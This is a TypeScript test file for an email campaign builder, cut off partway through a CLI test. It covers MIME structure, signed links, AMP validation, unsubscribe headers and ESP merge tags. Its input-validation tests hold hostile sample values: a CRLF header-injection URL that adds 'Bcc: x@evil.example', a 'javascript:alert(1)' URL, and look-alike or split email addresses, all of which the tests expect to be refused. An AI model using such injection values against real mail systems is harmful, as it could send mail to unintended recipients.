/**
 * `npm run email`: MIME messages that parse, with text/plain, text/x-amp-html and text/html in that
 * order inside multipart/alternative, signed URLs that verify, an AMP part that validates; and the ESP
 * mode's merge tags and token CSV.
 */

import { execFileSync, spawn } from "node:child_process";
import { readdir, readFile, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import Mustache from "mustache";
import PostalMime from "postal-mime";
import { beforeAll, describe, expect, it } from "vitest";
import { verifyToken } from "../../core/token";
import { unsubscribeSecrets } from "../../core/unsubscribe-link";
import { gmailLint, validateAmpEmail, validatorEnginePath } from "../../scripts/email/amp-validator";
import { BUILD_LIST, buildEmails, ESP_MERGE_TAGS, ESP_UNSUBSCRIBE_TAGS } from "../../scripts/email/build-emails";
import { BUILDER_BASE, builderSetup, BUILDER_SECRET as SECRET } from "./support/email-options";

const BASE = BUILDER_BASE;

function setup(csv: string) {
  return builderSetup(csv, "opentime-email-");
}

/**
 * What Braze sends of a part: it runs Liquid over the whole message (its merge tag is Liquid). `{% raw %}` is
 * kept as written; any other `{{ }}` becomes the attribute it names, or nothing (`{{title}}`, `{{#items}}`
 * name no Braze attribute).
 */
function brazeLiquid(part: string, attributes: Record<string, string>): string {
  return part
    .split(/\{%-?\s*raw\s*-?%\}([\s\S]*?)\{%-?\s*endraw\s*-?%\}/)
    .map((piece, i) =>
      i % 2 === 1
        ? piece
        : piece.replace(/\{\{\s*(?:custom_attribute\.)?\$\{(\w+)\}\s*\}\}|\{\{[\s\S]*?\}\}/g, (_, name?: string) =>
            name ? (attributes[name] ?? "") : "",
          ),
    )
    .join("");
}

/** What Marketing Cloud sends of a part: its Guide Template Language (mustache) runs over it, then AMPscript's %%field%%. */
function sfmcGtl(part: string, fields: Record<string, string>): string {
  return Mustache.render(part, {}).replace(/%%(\w+)%%/g, (_, name: string) => fields[name] ?? "");
}

/** The client-side templates of an AMP part (amp-mustache), as the mail client gets them. */
function ampTemplates(amp: string): string[] {
  return [...amp.matchAll(/<template type="amp-mustache">([\s\S]*?)<\/template>/g)].map((m) => m[1] as string);
}

describe("email builder, MIME mode", () => {
  beforeAll(() => {
    validatorEnginePath();
  }, 300_000);

  it("writes one multipart/alternative message per recipient: text, AMP, HTML in that order", async () => {
    const { options } = await setup(
      "user_id,email,first_name\nc0000002,ann@example.com,Ann\nc0000042,bob@example.com,Bob\n",
    );
    const result = await buildEmails(options);
    expect(result.recipients).toBe(2);
    const raw = await readFile(result.files[0] as string, "utf8");
    expect(raw).toMatch(/^Content-Type: multipart\/alternative;/m);
    const order = ["text/plain", "text/x-amp-html", "text/html"].map((t) =>
      raw.search(new RegExp(`^Content-Type: ${t}`, "m")),
    );
    expect(order.every((i) => i > 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    expect(raw).toMatch(/^To: ann@example.com$/m);

    const parsed = await PostalMime.parse(raw);
    expect(parsed.subject).toBe("Picked for you");
    const html = parsed.html as string;
    const token = /\/v1\/img\/([^/]+)\/row-0@2x\.png/.exec(html)?.[1] as string;
    const verified = await verifyToken([SECRET], token);
    expect(verified.ok && verified.claims).toMatchObject({ u: "c0000002", c: "spring-sale" });
    expect(html).toContain(`href="${BASE}/v1/c/${token}/row-2"`);
    expect(parsed.text).toContain(`${BASE}/v1/c/${token}/row-0`);
  });

  it("every line of a message ends in CRLF, the parts' bodies too (RFC 5322: no bare LF a relay may refuse)", async () => {
    const { options } = await setup("user_id,email\nc0000002,ann@example.com\n");
    const raw = await readFile((await buildEmails(options)).files[0] as string, "latin1");
    // the templates' own line ends (LF) reach the bodies: each one must go out as CRLF
    expect(raw.match(/\r?\n/g)?.length).toBeGreaterThan(100);
    expect(raw.replace(/\r\n/g, "")).not.toMatch(/[\r\n]/);
    expect(raw.split("\r\n").every((line) => line.length <= 998)).toBe(true);
  });

  it("a build removes the build before in its directory (and nothing else there), so no earlier message is sent again", async () => {
    const { options } = await setup("user_id,email\nc0000002,ann@example.com\nc0000042,bob@example.com\n");
    const first = await buildEmails({ ...options, campaign: "first" });
    expect(first).toMatchObject({ removed: 0, strayMessages: 0 });
    // a file of the user's own beside them, and one message a build before the list existed left
    await writeFile(join(options.outDir, "notes.txt"), "mine");
    await writeFile(join(options.outDir, "old.eml"), "From: a@example.com\r\n\r\nold");
    // Bob unsubscribed since: the second campaign is built for Ann alone, and Bob's first message must not remain
    const second = await buildEmails({
      ...options,
      campaign: "second",
      suppressed: new Map([["c0000042", "unsubscribed"]]),
    });
    expect(second).toMatchObject({ recipients: 1, removed: 2, strayMessages: 1 });
    expect((await readdir(options.outDir)).sort()).toEqual([BUILD_LIST, "c0000002.eml", "notes.txt", "old.eml"]);
    const ann = await PostalMime.parse(await readFile(join(options.outDir, "c0000002.eml"), "utf8"));
    const token = /\/v1\/img\/([^/]+)\/row-0@2x\.png/.exec(ann.html ?? "")?.[1] as string;
    expect((await verifyToken([SECRET], token)).ok && (await verifyToken([SECRET], token))).toMatchObject({
      claims: { c: "second" },
    });
    // a list that names a path out of the directory removes nothing there
    await writeFile(join(options.outDir, BUILD_LIST), JSON.stringify({ files: ["../outside.eml", "notes.txt/.."] }));
    await writeFile(join(options.outDir, "..", "outside.eml"), "x");
    expect((await buildEmails(options)).removed).toBe(0);
    expect(await readFile(join(options.outDir, "..", "outside.eml"), "utf8")).toBe("x");
  });

  it("subject rules give each recipient their subject and a hidden preheader (HTML and text parts)", async () => {
    const { options } = await setup("user_id,email\nc0000002,ann@example.com\nc0000042,bob@example.com\n");
    const subjects = new Map([
      ["c0000042", { subject: "Back in stock for you", preheader: "Three picks & a <surprise>" }],
    ]);
    const result = await buildEmails({ ...options, subjects });
    const [ann, bob] = await Promise.all(result.files.map(async (f) => PostalMime.parse(await readFile(f, "utf8"))));
    expect(ann?.subject).toBe("Picked for you");
    expect(ann?.html).not.toContain("display:none;max-height:0");
    expect(bob?.subject).toBe("Back in stock for you");
    // after the preheader, invisible characters to the end of the inbox's preview line, so it does not run on
    // into the email's first words ("Three picks & a <surprise> Picked for you A few favourites...")
    const filler = />Three picks &amp; a &lt;surprise&gt;((?:&#847;|&zwnj;|&nbsp;)*)<\/div>/.exec(bob?.html ?? "")?.[1];
    expect(filler?.match(/&#847;|&zwnj;|&nbsp;/g)?.length ?? 0).toBeGreaterThanOrEqual(150);
    expect(bob?.text?.startsWith("Three picks & a <surprise>\n")).toBe(true);
  });

  it("the AMP part of a built message validates as AMP4EMAIL", async () => {
    const { options } = await setup("user_id,email\nc0000002,ann@example.com\n");
    const result = await buildEmails(options);
    const raw = await readFile(result.files[0] as string, "utf8");
    // the AMP part, decoded: postal-mime keeps text/x-amp-html among its attachments
    const parsed = await PostalMime.parse(raw);
    const ampPart = parsed.attachments.find((a) => a.mimeType === "text/x-amp-html");
    const amp =
      typeof ampPart?.content === "string"
        ? ampPart.content
        : new TextDecoder().decode(ampPart?.content as ArrayBuffer);
    expect(amp).toContain("⚡4email");
    const res = await validateAmpEmail(amp);
    expect(res.errors).toEqual([]);
  });

  it("the shop's unsubscribe URL (unsubscribe_url column): List-Unsubscribe headers, one-click for https, and a link in every part", async () => {
    const https = "https://shop.example/unsubscribe?u=c0000002&sig=abc";
    const { options } = await setup(
      `user_id,email,unsubscribe_url\nc0000002,ann@example.com,${https}\nc0000042,bob@example.com,mailto:unsubscribe@shop.example?subject=c0000042\n`,
    );
    const result = await buildEmails(options);
    const [annRaw, bobRaw] = await Promise.all(result.files.map((f) => readFile(f, "utf8")));
    const [ann, bob] = await Promise.all([PostalMime.parse(annRaw as string), PostalMime.parse(bobRaw as string)]);
    const header = (m: typeof ann, name: string) => m.headers.find((h) => h.key === name)?.value.trim();
    // RFC 8058: an https URL and List-Unsubscribe-Post, what Gmail and Yahoo ask of bulk senders
    expect(header(ann, "list-unsubscribe")).toBe(`<${https}>`);
    expect(header(ann, "list-unsubscribe-post")).toBe("List-Unsubscribe=One-Click");
    // a mailto: works in the mail client's menu, but is not one-click
    expect(header(bob, "list-unsubscribe")).toBe("<mailto:unsubscribe@shop.example?subject=c0000042>");
    expect(header(bob, "list-unsubscribe-post")).toBeUndefined();
    // and where a reader looks for it: the HTML part's footer (escaped), the text part, the AMP part
    expect(ann.html).toContain(`<a href="${https.replace("&", "&amp;")}"`);
    expect(ann.html).toMatch(/>Unsubscribe<\/a>/);
    expect(ann.text).toContain(`subscribed at Shop.\n\nUnsubscribe: ${https}\n`);
    const amp = ann.attachments.find((a) => a.mimeType === "text/x-amp-html");
    const ampText =
      typeof amp?.content === "string" ? amp.content : new TextDecoder().decode(amp?.content as ArrayBuffer);
    expect(ampText).toContain(`href="${https.replace("&", "&amp;")}"`);
    expect((await validateAmpEmail(ampText)).errors).toEqual([]);
    const bobAmp = bob.attachments.find((a) => a.mimeType === "text/x-amp-html")?.content;
    const bobAmpText = typeof bobAmp === "string" ? bobAmp : new TextDecoder().decode(bobAmp as ArrayBuffer);
    expect(bobAmpText).toContain('href="mailto:unsubscribe@shop.example?subject=c0000042"');
    expect((await validateAmpEmail(bobAmpText)).errors).toEqual([]);
  });

  it("without the shop's unsubscribe_url: opentime's own one-click link, signed for this reader's send, in the header and every part", async () => {
    const { options } = await setup("user_id,email\nc0000002,ann@example.com\n");
    const result = await buildEmails(options);
    expect(result.withoutOneClick).toBe(0);
    const ann = await PostalMime.parse(await readFile(result.files[0] as string, "utf8"));
    const header = (name: string) => ann.headers.find((h) => h.key === name)?.value.trim();
    const link = /^<(https:\/\/opentime\.shop\.example\/v1\/unsubscribe\?t=([^>]+))>$/.exec(
      header("list-unsubscribe") ?? "",
    );
    expect(link).not.toBeNull();
    expect(header("list-unsubscribe-post")).toBe("List-Unsubscribe=One-Click");
    const [, url, t] = link as unknown as [string, string, string];
    // the reader's and this campaign's, for two years whatever --ttl-days (30 here); by the unsubscribe key only,
    // never as an email's token
    const verified = await verifyToken(await unsubscribeSecrets([SECRET]), t);
    expect(verified.ok && verified.claims).toMatchObject({ u: "c0000002", c: "spring-sale" });
    expect(verified.ok && verified.claims.e - Math.floor(Date.now() / 1000)).toBeGreaterThanOrEqual(730 * 86_400 - 60);
    expect(
      (await verifyToken(await unsubscribeSecrets([SECRET]), t, Math.floor(Date.now() / 1000) + 729 * 86_400)).ok,
    ).toBe(true);
    expect((await verifyToken([SECRET], t)).ok).toBe(false);
    expect(ann.html).toContain(`<a href="${url}"`);
    expect(ann.text).toContain(`Unsubscribe: ${url}\n`);
    const amp = ann.attachments.find((a) => a.mimeType === "text/x-amp-html")?.content;
    const ampText = typeof amp === "string" ? amp : new TextDecoder().decode(amp as ArrayBuffer);
    expect(ampText).toContain(`href="${url}"`);
    expect((await validateAmpEmail(ampText)).errors).toEqual([]);
    // a Worker on plain http (this machine): the link, but no one-click (RFC 8058 asks https), and counted
    const local = await buildEmails({ ...options, baseUrl: "http://127.0.0.1:8787", outDir: `${options.outDir}-http` });
    expect(local.withoutOneClick).toBe(1);
    const plain = await PostalMime.parse(await readFile(local.files[0] as string, "utf8"));
    expect(plain.headers.find((h) => h.key === "list-unsubscribe")?.value).toMatch(
      /^<http:\/\/127\.0\.0\.1:8787\/v1\/unsubscribe\?t=/,
    );
    expect(plain.headers.find((h) => h.key === "list-unsubscribe-post")).toBeUndefined();
  });

  it("refuses an unsubscribe_url that is not https: or mailto:, or would break the header, naming the line", async () => {
    for (const bad of ["http://shop.example/u", "javascript:alert(1)", "https://shop.example/u>x", "/unsubscribe"]) {
      const { options } = await setup(`user_id,email,unsubscribe_url\nc1,ann@example.com,${bad}\n`);
      await expect(buildEmails(options), bad).rejects.toThrow(
        /recipients.csv:2: unsubscribe_url must be an https: or mailto: URL/,
      );
    }
    const split = await setup(
      'user_id,email,unsubscribe_url\nc1,ann@example.com,"https://shop.example/u\r\nBcc: x@evil.example"\n',
    );
    await expect(buildEmails(split.options)).rejects.toThrow(/recipients.csv:2: unsubscribe_url/);
    // RFC 5322: a header line holds 998 characters, and List-Unsubscribe holds the URL on one
    const long = await setup(
      `user_id,email,unsubscribe_url\nc1,ann@example.com,https://esp.example/u/${"a".repeat(1500)}\n`,
    );
    await expect(buildEmails(long.options)).rejects.toThrow(
      /recipients.csv:2: unsubscribe_url is 1522 characters; a List-Unsubscribe line holds at most 995/,
    );
  });

  it("an unsubscribe_url with characters beyond ASCII goes in the header as a URL (percent-encoded), never as encoded words", async () => {
    const { options } = await setup(
      "user_id,email,unsubscribe_url\nc1,ann@example.com,https://shop.example/abmelden/müller?grüße=1\nc2,bob@example.com,mailto:abmelden@shop.example?subject=Jörg\n",
    );
    const result = await buildEmails(options);
    const [ann, bob] = await Promise.all(result.files.map((f) => readFile(f, "utf8")));
    // the header as written, unfolded: a mail provider reads `<url>` there, and RFC 2047's =?UTF-8?...?= is no URL
    const raw = (m: string) =>
      /^List-Unsubscribe:(.*(?:\r?\n[ \t].*)*)/m
        .exec(m)?.[1]
        ?.replace(/\r?\n[ \t]/g, " ")
        .trim();
    expect(raw(ann as string)).toBe("<https://shop.example/abmelden/m%C3%BCller?gr%C3%BC%C3%9Fe=1>");
    expect(raw(bob as string)).toBe("<mailto:abmelden@shop.example?subject=J%C3%B6rg>");
    expect((ann as string).split(/\r?\n/).every((line) => line.length <= 998)).toBe(true);
    // the parts link the same URL
    const parsed = await PostalMime.parse(ann as string);
    expect(parsed.text).toContain("Unsubscribe: https://shop.example/abmelden/m%C3%BCller?gr%C3%BC%C3%9Fe=1\n");
  });

  it("the shop's link: --shop-url is needed for a real send (the Worker's root is no shop), and must be a web address", async () => {
    const { options } = await setup("user_id,email\nc0000002,ann@example.com\n");
    const { shopUrl: _, ...withoutShop } = options;
    await expect(buildEmails(withoutShop)).rejects.toThrow(/--shop-url is required/);
    for (const bad of ["shop.example", "javascript:alert(1)", "/"]) {
      await expect(buildEmails({ ...options, shopUrl: bad }), bad).rejects.toThrow(
        /--shop-url must be an http\(s\) URL/,
      );
    }
    // a Worker on this machine: its root is the demo shop
    const local = await buildEmails({
      ...withoutShop,
      baseUrl: "http://127.0.0.1:8787",
      outDir: `${options.outDir}-local`,
    });
    const parsed = await PostalMime.parse(await readFile(local.files[0] as string, "utf8"));
    expect(parsed.text).toContain("Visit the shop: http://127.0.0.1:8787/\n");
  });

  it("one message file per recipient, even when ids differ only in characters a file name cannot hold or in case", async () => {
    // "a/b" and "a_b" both make a_b.eml, and A_B.eml is the same file on macOS's and Windows' file systems
    const { options } = await setup("user_id,email\na/b,ann@example.com\na_b,bob@example.com\nA_B,cyd@example.com\n");
    const result = await buildEmails(options);
    expect(result.files).toHaveLength(3);
    expect(new Set(result.files.map((f) => f.toLowerCase())).size).toBe(3);
    const to = await Promise.all(result.files.map(async (f) => (await PostalMime.parse(await readFile(f, "utf8"))).to));
    expect(to.map((t) => t?.[0]?.address)).toEqual(["ann@example.com", "bob@example.com", "cyd@example.com"]);
  });

  it("a reader listed twice is refused, naming both lines, and nothing is written (not mailed twice)", async () => {
    const dup = await setup("user_id,email\nc1,ann@example.com\nc2,bob@example.com\nc1,ann@example.com\n");
    for (const esp of [undefined, "mailchimp"] as const)
      await expect(buildEmails({ ...dup.options, esp })).rejects.toThrow(
        /recipients.csv:4: user_id c1 is also on line 2; list each recipient once/,
      );
    await expect(readdir(join(dup.dir, "out"))).rejects.toThrow(/ENOENT/);
  });

  it("a user id the Worker would refuse is named with its line, before anything is asked of the Worker", async () => {
    const dots = await setup("user_id,email\nc1,ann@example.com\n..,bob@example.com\n");
    await expect(buildEmails(dots.options)).rejects.toThrow(
      /recipients.csv:3: user_id "\.\." must not be '\.' or '\.\.'/,
    );
    const long = await setup(`user_id,email\n${"x".repeat(129)},ann@example.com\n`);
    await expect(buildEmails(long.options)).rejects.toThrow(/recipients.csv:2: user_id "x+"/);
  });

  it("names a bad recipient's own line in the file, blank lines before it counted", async () => {
    const gap = await setup("user_id,email\n\nc1,ann@example.com\n\n\nc2,not-an-email\n");
    await expect(buildEmails(gap.options)).rejects.toThrow(/recipients.csv:6: a valid email is needed/);
    const dup = await setup("user_id,email\nc1,ann@example.com\n\nc1,ann@example.com\n");
    await expect(buildEmails(dup.options)).rejects.toThrow(/recipients.csv:4: user_id c1 is also on line 2/);
  });

  it("--base-url is an origin: a path, query or fragment is refused (the Worker serves /v1/ at its root); a trailing slash is fine", async () => {
    const { options } = await setup("user_id,email\nc1,ann@example.com\n");
    for (const bad of [
      "https://opentime.shop.example/opentime",
      "https://opentime.shop.example/x/",
      "https://opentime.shop.example/?a=1",
      "https://opentime.shop.example/#x",
    ])
      await expect(buildEmails({ ...options, baseUrl: bad }), bad).rejects.toThrow(
        /--base-url must be an http\(s\) origin, nothing after the host, .*; try https:\/\/opentime.shop.example$/,
      );
    const slash = await buildEmails({ ...options, baseUrl: `${BASE}/` });
    const parsed = await PostalMime.parse(await readFile(slash.files[0] as string, "utf8"));
    expect(parsed.html).toContain(`src="${BASE}/v1/img/`);
    expect(parsed.html).not.toContain(`${BASE}//`);
  });

  it("refuses email-shaped user ids and rows without an address, naming the line", async () => {
    const a = await setup("user_id,email\nann@example.com,ann@example.com\n");
    await expect(buildEmails(a.options)).rejects.toThrow(/recipients.csv:2: user_id must be pseudonymous/);
    const b = await setup("user_id,email\nc1,ann@example.com\nc2,\n");
    await expect(buildEmails(b.options)).rejects.toThrow(/recipients.csv:3: a valid email is needed/);
    // a look-alike @ makes a user id an address, and an email column no address a mail server delivers to
    const c = await setup("user_id,email\nann\uFF20example.com,ann@example.com\n");
    await expect(buildEmails(c.options)).rejects.toThrow(/recipients.csv:2: user_id must be pseudonymous/);
    const d = await setup("user_id,email\nc1,ann\uFF20example.com\n");
    await expect(buildEmails(d.options)).rejects.toThrow(/recipients.csv:2: a valid email is needed/);
  });

  it("an email cell that is not one bare address is refused, naming the line: never a message to another mailbox", async () => {
    // each was taken, and addressed to what nodemailer made of it: the part after a comma or semicolon (another
    // person's mailbox), or an empty group (no recipient at all)
    for (const email of ["bob,ann@example.com", "x;y@example.com", "ann@example.com:x", "ann(c)@example.com"]) {
      const { options } = await setup(`user_id,email\nc1,ann@example.com\nc2,"${email}"\n`);
      await expect(buildEmails(options), email).rejects.toThrow(
        `recipients.csv:3: a valid email is needed to write a message, got ${JSON.stringify(email)}`,
      );
      await expect(readdir(options.outDir)).rejects.toThrow(/ENOENT/);
    }
    const { options } = await setup("user_id,email\nc1,o'brien+news@example.com\n");
    const raw = await readFile((await buildEmails(options)).files[0] as string, "utf8");
    expect(raw).toMatch(/^To: o'brien\+news@example.com\r$/m);
  });

  it("--from must be one mailbox with an address: a name alone wrote messages with no From header", async () => {
    const { options } = await setup("user_id,email\nc1,ann@example.com\n");
    for (const from of ["Demo Shop", "shop.example", "Shop <n@shop.example>, Other <o@shop.example>", "Shop <>"])
      await expect(buildEmails({ ...options, from }), from).rejects.toThrow(
        `--from must be one sender's address, "Shop <newsletter@shop.example>" or newsletter@shop.example, got ${JSON.stringify(from)}`,
      );
    await expect(readdir(options.outDir)).rejects.toThrow(/ENOENT/);
    for (const from of ['"Shop, Inc." <n@shop.example>', "n@shop.example", "Café ☕ <n@shop.example>"]) {
      const parsed = await PostalMime.parse(
        await readFile((await buildEmails({ ...options, from })).files[0] as string),
      );
      expect(parsed.from?.address).toBe("n@shop.example");
    }
  });

  it("a recipients file it cannot use says which file and what is wrong, and writes nothing", async () => {
    // a header that names no user_id column: said once, not as an empty user_id on every line
    const col = await setup("customer_id,email\nc1,ann@example.com\n");
    await expect(buildEmails(col.options)).rejects.toThrow(
      /recipients.csv: no user_id column \(the header names customer_id, email\): the first line must be "user_id,email"/,
    );
    // a row with more fields than the header: the parser's line, with the file it is in
    const extra = await setup("user_id,email\nc1,ann@example.com,x\n");
    await expect(buildEmails(extra.options)).rejects.toThrow(/recipients.csv: Invalid Record Length: .* on line 2/);
    const gone = await setup("user_id,email\nc1,ann@example.com\n");
    await expect(buildEmails({ ...gone.options, recipientsCsv: join(gone.dir, "nope.csv") })).rejects.toThrow(
      /nope.csv: no such file \(ENOENT\); a relative path is read from /,
    );
    // a column named twice (a joined export): the last one's value was taken, c2 mailed at c1's address
    const twice = await setup("user_id,email,user_id\nc1,ann@example.com,c2\n");
    await expect(buildEmails(twice.options)).rejects.toThrow(
      /recipients.csv: the header names user_id twice \(user_id, email, user_id\): which one is meant\? keep one/,
    );
    const emails = await setup("user_id,email,name,email\nc1,ann@example.com,Ann,old@example.com\n");
    await expect(buildEmails(emails.options)).rejects.toThrow(/recipients.csv: the header names email twice/);
    for (const { dir } of [col, extra, gone, twice, emails])
      await expect(readdir(join(dir, "out"))).rejects.toThrow(/ENOENT/);
  });
});

describe("email builder, ESP mode", () => {
  for (const esp of Object.keys(ESP_MERGE_TAGS) as (keyof typeof ESP_MERGE_TAGS)[]) {
    it(`${esp}: parts written once with the merge tag, tokens in a CSV`, async () => {
      const { options } = await setup("user_id\nc0000002\nc0000042\n");
      const result = await buildEmails({ ...options, esp });
      const tag = ESP_MERGE_TAGS[esp]("OT_TOKEN");
      const html = await readFile(result.files.find((f) => f.endsWith(`.${esp}.html`)) as string, "utf8");
      expect(html).toContain(`${BASE}/v1/img/${tag}/row-1@2x.png`);
      expect(html).toContain(`${BASE}/v1/c/${tag}/row-1`);
      const csv = (await readFile(result.files.at(-1) as string, "utf8")).trim().split("\n");
      expect(csv).toHaveLength(3);
      const [header, first] = csv as [string, string];
      expect(header).toBe(esp === "mailchimp" ? "user_id,email,OT_TOKEN" : "user_id,email,ot_token");
      const token = first.split(",")[2] as string;
      expect((await verifyToken([SECRET], token)).ok).toBe(true);
    });

    it(`${esp}: every part's footer links the ESP's own unsubscribe, as the ESP writes it`, async () => {
      const { options } = await setup("user_id\nc0000002\n");
      const result = await buildEmails({ ...options, esp });
      const part = (ext: string) => readFile(result.files.find((f) => f.endsWith(`.${esp}.${ext}`)) as string, "utf8");
      const unsubscribe = ESP_UNSUBSCRIBE_TAGS[esp];
      const html = await part("html");
      expect(html).toMatch(/<a href="[^"]+"[^>]*>Unsubscribe<\/a>/);
      expect(html.match(/<a href="([^"]+)"[^>]*>Unsubscribe<\/a>/)?.[1]).toBe(unsubscribe);
      expect(await part("amp.html")).toContain(`<a href="${unsubscribe}">Unsubscribe</a>`);
      expect(await part("txt")).toContain(`Unsubscribe: ${unsubscribe}\n`);
    });
  }

  it("an unsubscribe_url column is in no ESP file (the ESP adds its own link): the result counts it, to be said", async () => {
    const { options } = await setup(
      "user_id,email,unsubscribe_url\nc0000002,ann@example.com,https://shop.example/u/1\nc0000042,bob@example.com,\n",
    );
    const result = await buildEmails({ ...options, esp: "braze" });
    expect(result.unsubscribeUrlsUnused).toBe(1);
    for (const file of result.files) expect(await readFile(file, "utf8")).not.toContain("shop.example/u/1");
    const none = await setup("user_id\nc0000002\n");
    expect((await buildEmails({ ...none.options, esp: "braze" })).unsubscribeUrlsUnused).toBe(0);
  });

  it("with subject rules: each recipient's subject and preheader in the CSV, the preheader's merge tag in the parts", async () => {
    const { options } = await setup("user_id\nc0000002\nc0000042\n");
    const subjects = new Map([["c0000002", { subject: "We miss you", preheader: "New mugs since your last visit" }]]);
    const result = await buildEmails({ ...options, esp: "mailchimp", subjects });
    const csv = (await readFile(result.files.at(-1) as string, "utf8")).trim().split("\n");
    // the preheader twice: as it is for the text part, HTML-escaped for the HTML part
    expect(csv[0]).toBe("user_id,email,OT_TOKEN,OT_SUBJECT,OT_PREHEAD,OH_PREHEAD");
    expect(csv[1]).toMatch(
      /^c0000002,,[^,]+,We miss you,New mugs since your last visit,New mugs since your last visit$/,
    );
    // no rule answered for this one: the default subject, no preheader
    expect(csv[2]).toMatch(/^c0000042,,[^,]+,Picked for you,,$/);
    const html = await readFile(result.files.find((f) => f.endsWith(".mailchimp.html")) as string, "utf8");
    // one part for both: c0000042's preheader is empty, and invisible filler after it would leave their inbox
    // preview blank, so the part has none (without filler the preview runs on into the email's first words)
    expect(html).toContain(">*|HTML:OH_PREHEAD|*</div>");
    // every recipient has a preheader: the filler keeps each preview to its preheader
    const all = new Map([...subjects, ["c0000042", { subject: "Hi", preheader: "Fresh picks" }]]);
    const filled = await buildEmails({ ...options, outDir: `${options.outDir}-all`, esp: "mailchimp", subjects: all });
    const html2 = await readFile(filled.files.find((f) => f.endsWith(".mailchimp.html")) as string, "utf8");
    expect(html2).toContain(">*|HTML:OH_PREHEAD|*&#847;&zwnj;&nbsp;");
  });

  it("braze and sfmc: their template languages, run over the whole message, leave the AMP part's templates as written", async () => {
    const { options } = await setup("user_id\nc0000002\n");
    const mailchimp = await buildEmails({ ...options, outDir: `${options.outDir}-mc`, esp: "mailchimp" });
    const amp = (r: { files: string[] }, esp: string) =>
      readFile(r.files.find((f) => f.endsWith(`.${esp}.amp.html`)) as string, "utf8");
    // Mailchimp's *|TAG|* leaves {{ }} alone: its AMP part holds the templates as the template file has them
    const expected = ampTemplates(await amp(mailchimp, "mailchimp"));
    expect(expected.join("")).toContain("{{title}}");
    expect(expected.join("")).toContain("{{#error}}{{message}}{{/error}}");
    for (const [esp, render] of [
      ["braze", brazeLiquid],
      ["sfmc", sfmcGtl],
    ] as const) {
      const result = await buildEmails({ ...options, outDir: `${options.outDir}-${esp}`, esp });
      const token = (await readFile(result.files.at(-1) as string, "utf8")).trim().split("\n")[1]?.split(",")[2];
      // the ESP's unsubscribe link, as each fills its own (Braze's attribute, Marketing Cloud's string)
      const link = "https://esp.example/unsubscribe/u1";
      const sent = render(await amp(result, esp), {
        ot_token: token as string,
        unsubscribe_url: link,
        unsub_center_url: link,
      });
      expect(sent, esp).toContain(`src="${BASE}/v1/amp/recs?t=${token}&amp;n=6"`);
      expect(sent, esp).toContain(`<a href="${link}">Unsubscribe</a>`);
      expect(ampTemplates(sent), esp).toEqual(expected);
      const res = await validateAmpEmail(sent);
      expect(res.errors, esp).toEqual([]);
      expect(res.status).toBe("PASS");
      expect(gmailLint(sent), esp).toEqual([]);
    }
  });

  it("documented merge tag syntaxes", () => {
    expect(ESP_MERGE_TAGS.mailchimp("OT_TOKEN")).toBe("*|OT_TOKEN|*");
    // biome-ignore lint/suspicious/noTemplateCurlyInString: Braze Liquid syntax, not a JS template
    expect(ESP_MERGE_TAGS.braze("OT_TOKEN")).toBe("{{custom_attribute.${ot_token}}}");
    expect(ESP_MERGE_TAGS.sfmc("OT_TOKEN")).toBe("%%ot_token%%");
    // each ESP's own unsubscribe link, as its documentation writes it
    expect(ESP_UNSUBSCRIBE_TAGS).toEqual({
      mailchimp: "*|UNSUB|*",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: Braze Liquid syntax, not a JS template
      braze: "{{${unsubscribe_url}}}",
      sfmc: "%%unsub_center_url%%",
    });
  });

  it("the CLI explains what is missing", () => {
    let stderr = "";
    try {
      execFileSync("npx", ["tsx", "scripts/email/cli.ts", "--campaign", "x"], { encoding: "utf8", stdio: "pipe" });
    } catch (e) {
      stderr = String((e as { stderr: string }).stderr);
    }
    expect(stderr).toContain("--campaign and --recipients are required");
  });
});

/**
 * The CLI run against a fake Worker that answers the check, the subjects and the sends' recording, and says the
 * campaign is `stored` or not: what the CLI asked of it, its exit code and output (`subject` null: none given, so the
 * subject lines are asked of the Worker).
 */
async function cliAgainstFakeWorker(args: string[], stored: boolean, subject: string | null = "Hi") {
  const { recipients, dir } = await setup("user_id,email\nc1,ann@example.com\n");
  const asked: string[] = [];
  const server = createServer((req, res) => {
    asked.push(`${req.method} ${req.url}`);
    const body =
      req.method === "GET" ? { id: "spring", stored } : { checked: 1, suppressed: [], campaign: "spring", recorded: 1 };
    res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(body));
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  const { port } = server.address() as AddressInfo;
  const run = await new Promise<{ code: number | null; stdout: string; stderr: string }>((done) => {
    const child = spawn(
      "npx",
      [
        "tsx",
        "scripts/email/cli.ts",
        "--campaign",
        "spring",
        "--recipients",
        recipients,
        "--out",
        join(dir, "out"),
      ].concat(subject === null ? [] : ["--subject", subject], ["--base-url", `http://127.0.0.1:${port}`, ...args]),
      { env: { ...process.env, TOKEN_SECRET: SECRET, ADMIN_API_KEY: "test-admin-key-0123456789" }, stdio: "pipe" },
    );
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (d) => {
      stdout += d;
    });
    child.stderr.on("data", (d) => {
      stderr += d;
    });
    child.on("close", (code) => done({ code, stdout, stderr }));
  });
  server.close();
  return { ...run, asked, dir };
}

describe("email builder CLI against a Worker", () => {
  it("a template that is not there stops it before asking the Worker anything or recording a send, naming the missing file", async () => {
    const run = await cliAgainstFakeWorker(["--template", "nope"], true);
    // each of its three files named, in one order whichever read fails first
    expect(run.stderr).toContain(
      "template nope: missing amp-templates/nope.amp.html, amp-templates/nope.html, amp-templates/nope.txt",
    );
    expect(run.code).toBe(1);
    expect(run.asked).toEqual([]);
  });

  it("an --out it cannot write to stops it before a send is recorded (the sends would count for mail never written)", async () => {
    const { dir } = await setup("x");
    await writeFile(join(dir, "taken"), "a file");
    const run = await cliAgainstFakeWorker(["--out", join(dir, "taken", "emails")], true);
    expect(run.stderr).toContain(
      `--out ${join(dir, "taken", "emails")}: not a directory (a part of the path is a file)`,
    );
    expect(run.code).toBe(1);
    expect(run.asked).toEqual([]);
  });

  it("a campaign the Worker has not stored (a misspelt id): refused, naming it, before a send is recorded or a file written", async () => {
    for (const args of [[], ["--dry-run"]]) {
      const unstored = await cliAgainstFakeWorker(args, false);
      expect(unstored.code).toBe(1);
      // asked whether it is stored, then nothing: no check, no send recorded
      expect(unstored.asked).toEqual(["GET /v1/admin/campaigns/spring"]);
      expect(unstored.stderr).toMatch(
